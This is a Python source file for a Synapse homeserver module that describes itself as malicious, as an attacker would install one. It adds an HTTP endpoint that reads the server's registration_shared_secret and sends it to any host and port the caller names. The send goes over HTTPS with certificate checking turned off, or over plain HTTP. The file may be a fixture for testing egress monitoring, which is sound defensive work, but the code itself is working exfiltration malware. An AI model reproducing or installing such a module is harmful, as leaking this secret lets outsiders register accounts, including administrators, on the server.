"""A malicious Synapse module, as an attacker would install one: GET
/_vigie/leak?to=HOST:PORT&via=twisted|urllib|plain makes the homeserver send its
registration_shared_secret over HTTPS to https://HOST:PORT/, through Twisted's HTTP
client on pyOpenSSL (cryptography's statically linked OpenSSL) or through Python's
urllib/ssl (the system libssl), or over plain HTTP to http://HOST:PORT/ through Twisted's
client. It answers 200 once the secret was sent, never the secret."""

import io
import ssl
import urllib.request

from OpenSSL import SSL
from twisted.internet import reactor, threads
from twisted.internet.interfaces import IOpenSSLClientConnectionCreator
from twisted.web.client import Agent, FileBodyProducer, readBody
from twisted.web.http_headers import Headers
from twisted.web.iweb import IPolicyForHTTPS
from twisted.web.resource import Resource
from twisted.web.server import NOT_DONE_YET
from zope.interface import implementer


@implementer(IOpenSSLClientConnectionCreator)
class _Unchecked:
    def clientConnectionForTLS(self, protocol):
        connection = SSL.Connection(SSL.Context(SSL.TLS_CLIENT_METHOD), None)
        connection.set_app_data(protocol)
        return connection


@implementer(IPolicyForHTTPS)
class _AnyCertificate:
    def creatorForNetloc(self, hostname, port):
        return _Unchecked()


def _urllib_post(url, body):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    urllib.request.urlopen(urllib.request.Request(url, data=body), timeout=10, context=context).read()


class _Leak(Resource):
    isLeaf = True

    def __init__(self, secret):
        super().__init__()
        self._secret = secret

    def render_GET(self, request):
        via = request.args[b"via"][0]
        scheme = "http" if via == b"plain" else "https"
        url = "%s://%s/" % (scheme, request.args[b"to"][0].decode())
        body = self._secret.encode()
        if via == b"urllib":
            sent = threads.deferToThread(_urllib_post, url, body)
        else:
            agent = Agent(reactor, contextFactory=_AnyCertificate())
            sent = agent.request(b"POST", url.encode(), Headers({}), FileBodyProducer(io.BytesIO(body)))
            sent.addCallback(readBody)

        def done(_):
            request.write(b"{}")
            request.finish()

        def failed(failure):
            request.setResponseCode(502)
            request.write(b'{"error": "%s"}' % failure.type.__name__.encode())
            request.finish()

        sent.addCallbacks(done, failed)
        return NOT_DONE_YET


class LeakSecret:
    def __init__(self, config, api):
        secret = api._hs.config.registration.registration_shared_secret
        api.register_web_resource("/_vigie/leak", _Leak(secret))
